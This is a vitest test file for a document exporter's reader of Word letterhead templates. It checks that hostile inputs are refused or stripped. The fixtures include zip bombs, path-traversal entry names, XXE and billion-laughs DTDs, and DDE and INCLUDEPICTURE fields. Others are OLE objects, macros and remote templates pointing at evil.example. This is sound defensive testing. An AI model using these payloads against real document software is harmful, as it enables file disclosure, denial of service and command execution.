// B64 to B67: Word files that come by mail and are named as --reference-doc.
import { describe, expect, test } from "vitest";
import { strToU8, zipSync } from "fflate";
import { exportDocx } from "../../src/export/docx.ts";
import { readLetterhead } from "../../src/export/docx/letterhead/read.ts";
import { openZip } from "../../src/office/zip.ts";
import { parseReport } from "../../src/export/parse.ts";
import type { Report } from "../../src/export/report.ts";
import { plainTheme } from "../../src/export/theme.ts";
import { labels } from "../fixtures/export/sample.ts";
import {
  letterhead,
  picture,
  pixel,
  type LetterheadParts,
} from "../fixtures/letterhead/letterhead.ts";

/** What reading says, which takes no more than the figure. */
const read = (bytes: Uint8Array): readonly string[] => {
  const started = performance.now();
  const { findings } = readLetterhead(bytes);
  expect(performance.now() - started, "milliseconds").toBeLessThan(10 * 2000);
  return findings.map(({ level, message }) => `${level}: ${message}`);
};

const report: Report = {
  ...parseReport("# Title\n\n## Chapter\n\nText"),
  meta: { title: "Title", lang: "en" },
  labels,
  theme: plainTheme,
  figures: new Map(),
};

/** All XML of a report on a letterhead, and what was said of the letterhead. */
const onPaper = (
  parts: LetterheadParts,
): {
  readonly xml: string;
  readonly said: readonly string[];
  readonly paths: readonly string[];
} => {
  const opened = readLetterhead(letterhead(parts));
  expect(opened.letterhead).toBeDefined();
  const bytes = exportDocx(report, { toPng: () => pixel, letterhead: opened.letterhead });
  const zip = openZip(bytes);
  const xml = zip.paths
    .filter((path) => /\.(?:xml|rels)$/.test(path))
    .map((path) => new TextDecoder().decode(zip.read(path)));
  return {
    xml: xml.join("\n"),
    said: opened.findings.map(({ message }) => message),
    paths: zip.paths,
  };
};

/** Overwrites the sizes that a zip file tells of its entries. */
const lying = (bytes: Uint8Array): Uint8Array => {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at < copy.length - 46; at += 1)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 10, true);
  return copy;
};

describe("B64 a zip bomb", () => {
  const bomb = letterhead({ entries: { "word/styles.xml": new Uint8Array(200e6) } });
  test.each([
    ["that says how large it is", bomb],
    ["that lies about its size", lying(bomb)],
  ])("B64 %s is refused", (_, bytes) => {
    expect(bytes.length).toBeLessThan(1e6);
    expect(read(bytes)).toEqual([
      "error: the letterhead unpacks to far more than a letterhead needs",
    ]);
  });

  test("B64 more than 1,000 entries are refused", () => {
    const entries = Object.fromEntries(
      Array.from({ length: 1000 }, (_, at) => [`x/${at}.xml`, "<a/>"]),
    );
    expect(read(letterhead({ entries }))).toEqual([
      "error: the letterhead has more than 1,000 parts, more than a letterhead needs",
    ]);
  });

  test("B64 more elements, or deeper ones, than a document has are refused", () => {
    for (const styles of ["<a/>".repeat(1_500_000), "<w:p>".repeat(5000) + "</w:p>".repeat(5000)]) {
      const whole = `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${styles}</w:styles>`;
      expect(read(letterhead({ entries: { "word/styles.xml": whole } }))[0]).toMatch(
        /^error: the letterhead cannot be read: it (?:has too many elements|is nested too deep)/,
      );
    }
  });
});

test.each(["../../etc/cron.d/x", "/etc/passwd", "C:\\x.dll", "a/../../x", "..\\x"])(
  "B65 an entry called %s is refused",
  (path) => {
    expect(read(letterhead({ entries: { [path]: "x" } }))).toEqual([
      "error: the letterhead names a path outside of itself",
    ]);
  },
);

test.each([
  ["B65 a relation that climbs out of the file finds nothing", "../../../../etc/passwd"],
  ["B65 a relation to a file of the machine finds nothing", "file:///etc/passwd"],
])("%s", (_, target) => {
  const { xml, paths } = onPaper({ header: picture("rId9"), links: [["rId9", "image", target]] });
  expect(xml).not.toContain("passwd");
  expect(paths.filter((path) => path.includes("letterhead-"))).toHaveLength(1);
});

describe("B66 a document type", () => {
  const styles = (head: string, text: string): string =>
    `<?xml version="1.0"?>${head}<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${text}</w:styles>`;
  test.each([
    ["with an entity of a file", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"],
    ["with a billion laughs", '<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>', "&b;"],
    ["from outside", '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">', ""],
  ])("B66 %s is refused", (_, head, text) => {
    expect(read(letterhead({ entries: { "word/styles.xml": styles(head, text) } }))).toEqual([
      "error: the letterhead cannot be read: it has a document type",
    ]);
  });

  test("B66 in UTF-16 too", () => {
    const text = `\ufeff${styles('<!DOCTYPE a [<!ENTITY x "y">]>', "")}`;
    const wide = new Uint8Array(Uint16Array.from(text, (char) => char.charCodeAt(0)).buffer);
    expect(read(letterhead({ entries: { "word/styles.xml": wide } }))).toEqual([
      "error: the letterhead cannot be read: it has a document type",
    ]);
  });

  test("B66 an entity that is nowhere told is refused", () => {
    const [said] = read(letterhead({ entries: { "word/styles.xml": styles("", "&x;") } }));
    expect(said).toMatch(/^error: the letterhead cannot be read/);
  });
});

const field = (instruction: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>last text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const told = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

describe("B67 what leads outside or acts", () => {
  const evil = "http://evil.example/x";
  test.each<readonly [string, LetterheadParts, RegExp]>([
    [
      "a link",
      {
        header: '<w:hyperlink r:id="rId9"><w:r><w:t>our site</w:t></w:r></w:hyperlink>',
        links: [["rId9", "hyperlink", evil]],
      },
      /links are left out/,
    ],
    [
      "a linked picture",
      { header: picture("rId9").replace("r:embed", "r:link"), links: [["rId9", "image", evil]] },
      /picture of the letterhead is linked/,
    ],
    [
      "an OLE object",
      {
        header:
          '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="evil" r:id="rId9"/></w:object></w:r>',
        links: [["rId9", "oleObject", evil]],
      },
      /embedded objects/,
    ],
    [
      "a foreign part",
      { header: '<w:altChunk r:id="rId9"/>', links: [["rId9", "aFChunk", "evil.html"]] },
      /embedded objects/,
    ],
    [
      "a field that loads",
      { header: field(told(`INCLUDEPICTURE "${evil}"`)) },
      /fields that read files/,
    ],
    [
      "a field that starts programs",
      { header: field(told("DDEAU") + told('TO evil "cmd" ')) },
      /fields that read files/,
    ],
    [
      "a field that is made by another",
      { header: field(told("PAGE ") + field(told("QUOTE evil"))) },
      /fields that read files/,
    ],
    [
      "a field in one piece",
      {
        header: `<w:fldSimple w:instr=" INCLUDETEXT ${evil} "><w:r><w:t>last text</w:t></w:r></w:fldSimple>`,
      },
      /fields that read files/,
    ],
    [
      "an address on a drawing",
      {
        header: `<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="${evil}"><v:imagedata src="${evil}" r:href="rId9"/></v:shape></w:pict></w:r>`,
        links: [["rId9", "image", evil]],
      },
      /picture of the letterhead is linked/,
    ],
    [
      "a picture that is none",
      {
        header: picture("rId9"),
        links: [["rId9", "image", "media/evil.png"]],
        entries: { "word/media/evil.png": "MZ evil" },
      },
      /picture of the letterhead/,
    ],
  ])("B67 %s is left out, and said so", (_, parts, finding) => {
    const { xml, said } = onPaper(parts);
    expect(said.join("\n")).toMatch(finding);
    expect(xml).not.toMatch(/evil|DDE|INCLUDE|altChunk|OLEObject|<w:object/);
    expect(xml).toContain("Stadt Musterhausen");
    if (/last text|our site/.test(parts.header ?? "")) expect(xml).toMatch(/last text|our site/);
  });

  test("B67 macros are left out, and said so", () => {
    const { said, paths } = onPaper({ entries: { "word/vbaProject.bin": "evil" } });
    expect(said).toEqual(["the letterhead holds macros; they are left out"]);
    expect(paths.filter((path) => /vba/i.test(path))).toEqual([]);
  });

  test("B67 a template from outside is left out, and said so", () => {
    const attached = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${evil}" TargetMode="External"/></Relationships>`;
    const { xml, said } = onPaper({ entries: { "word/_rels/settings.xml.rels": attached } });
    expect(said).toEqual(["the letterhead loads a template from outside; it is left out"]);
    expect(xml).not.toContain("evil");
  });

  test("B67 page numbers and dates stay", () => {
    const { xml, said } = onPaper({ header: field(told("NUMPAGES")) });
    expect(said).toEqual([]);
    expect(xml).toContain("NUMPAGES");
  });
});

const compound = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const wide = (text: string): readonly number[] =>
  [...text].flatMap((char) => [char.charCodeAt(0), 0]);

test.each<readonly [string, Uint8Array]>([
  ["is an empty file", new Uint8Array()],
  ["is a Word file of before 2007 (.doc)", compound],
  ["is protected by a password", Uint8Array.from([...compound, ...wide("EncryptedPackage")])],
  ["is an RTF file", strToU8("{\\rtf1 x}")],
  ["is not a Word file", strToU8("%PDF-1.7")],
  ["is not a Word file", zipSync({ "a.txt": strToU8("x") })],
  [
    "is an OpenDocument file",
    zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.text") }, { level: 0 }),
  ],
  ["is damaged: it breaks off", letterhead().slice(0, 900)],
])("a file that %s is refused in these words", (message, bytes) => {
  expect(read(bytes)).toEqual([`error: the letterhead ${message}`]);
});
